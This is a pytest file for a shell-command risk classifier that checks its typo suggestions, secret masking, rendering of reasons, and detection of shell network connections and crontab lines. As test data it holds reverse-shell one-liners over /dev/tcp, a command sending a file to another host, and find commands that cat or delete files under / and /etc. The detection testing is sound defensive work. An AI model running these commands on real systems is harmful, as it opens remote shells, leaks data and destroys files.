"""What reasons say to whoever reads them first."""

from __future__ import annotations

import subprocess
import sys

import pytest

from riskclass import Risk, classify


@pytest.mark.parametrize(
    ("command", "end"),
    [
        ("git statsu", "statsu is not a sub-command or operand that is known; status is"),
        ("git psuh origin main", "; push is"),
        ("git --versoin", "--versoin is not a known option of git; --version is"),
        ("git log --onelne", "--onelne is not a known option of git log; --oneline is"),
        ("git log --onelne=3", "; --oneline is"),
        ("find . -nmae x", "; -name is"),
        ("git remote ad x", "ad is not a sub-command or operand that is known; add is"),
        # nothing is near, or more than one is
        ("git frobnicate", "frobnicate is not a sub-command or operand that is known"),
        ("git log --tokn=hunter2", "--tokn=hunter2 is not a known option of git log"),
        ("git psuh push", "; push is"),
        # what is masked is not compared
        ("git ghp_abcdefghijklmnopqrstuvwxyz", "ghp_*** is not a sub-command or operand that is known"),
    ],
)
def test_a_word_that_is_not_known_names_the_only_one_that_is_a_letter_away(command: str, end: str) -> None:
    assert classify(command).reason.endswith(end)


def test_only_the_first_word_can_be_the_sub_command() -> None:
    becauses = [effect.because for effect in classify("git psuh stats").effects]
    assert [because.rpartition("; ")[2] for because in becauses] == [
        "push is",
        "stats is not a sub-command or operand that is known",
    ]


def test_words_that_are_known_load_no_comparison() -> None:
    program = "import sys, riskclass; riskclass.classify('git status'); assert {!r} not in sys.modules"
    subprocess.run([sys.executable, "-I", "-c", program.format("riskclass.engine.meant")], check=True)


@pytest.mark.parametrize(
    ("command", "way"),
    [
        ("find / -exec cat {} \\;", "find -exec → cat /{}"),
        ("find /etc/ -name '*.key' -delete -o -exec rm {} +", "find -exec → rm /etc/{}/*.key"),
        ("find /etc -exec cat {} \\;", "find -exec → cat /etc/{}"),
        ("ssh '' rm f", "ssh '' → rm f"),
        ("ssh $H rm f", "ssh $H → rm f"),
        ("docker exec 'a b' rm f", "docker exec 'a b' → rm f"),
        ("kill $(lsof -t -i:3000)", "kill $(lsof -t -i:3000)"),
        ('rm "a b $x"', 'rm "a b $x"'),
        ("rm '$(a b)'", "rm '$(a b)'"),
        ('rm "it\'s"', 'rm "it\'s"'),
        ("rm \"it's \"'$x'", "rm 'it'\\''s $x'"),
        ("date > 'my file'", "> 'my file'"),
        ("date > file", "> file"),
        ("PATH=$'a\\nb' ls", "PATH=a⏎b"),
        ("ssh $'a\\nb' rm f", "ssh a⏎b → rm f"),
    ],
)
def test_the_way_shows_words_as_they_could_be_written(command: str, way: str) -> None:
    assert way in [effect.reason.rpartition(": ")[0] for effect in classify(command).effects]


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "bash -i: runs what comes over the network"),
        ("bash -i 5<>/dev/tcp/h/99 0<&5 1>&5", "bash -i: runs what comes over the network"),
        ("exec 5<>/dev/tcp/h/99; sh <&5 >&5", "sh: runs what comes over the network"),
        ("bash -i 0>&1", "bash -i: runs text that is not seen here: what it is fed is not known here"),
        ("exec 3<>/dev/tcp/h/80", "<> /dev/tcp/h/80: opens a connection; what is sent there is not followed"),
        ("cat f > /dev/tcp/h/80", "> /dev/tcp/h/80: sends content to another host"),
    ],
)
def test_a_connection_of_the_shell_is_named(command: str, reason: str) -> None:
    assert classify(command).reason == reason


def test_an_environment_of_the_project_is_code_of_the_project() -> None:
    for command in ("source .venv/bin/activate", ". ./venv/bin/activate", "source /srv/app/.venv/bin/activate"):
        found = [(each.kind, each.rule) for each in classify(command, cwd="/srv/app").effects]
        assert ("code.project", "source/code.project") in found
    for command in ("source /srv/x/activate", "source ~/.venv/bin/activate", "cd /tmp/x; . .venv/bin/activate"):
        found = [(each.kind, each.rule) for each in classify(command, cwd="/srv/app").effects]
        assert ("code.opaque", "source/code.opaque") in found


def test_a_start_up_script_by_its_path_names_the_way_that_is_known() -> None:
    verdict = classify("/etc/init.d/nginx status")
    assert verdict.reason.endswith("runs a program outside the trusted directories; service nginx is known")
    assert classify("service nginx status").risk_class is Risk.READ_ONLY


@pytest.mark.parametrize(
    ("command", "end"),
    [
        ("echo '0 3 * * * root df -h' | crontab -", "; a user's crontab names no user"),
        ("echo '0 3 * * * df -h' > /etc/cron.d/x", "; a line there names a user before the command"),
        ("echo '0 3 * * * frobnicate' | crontab -", "no table for this program"),
        ("echo 'root df' | sh", "no table for this program"),
        ("echo '-h' | sh", "no table for this program"),
    ],
)
def test_a_line_in_the_form_of_the_other_crontab(command: str, end: str) -> None:
    assert classify(command).reason.endswith(end)
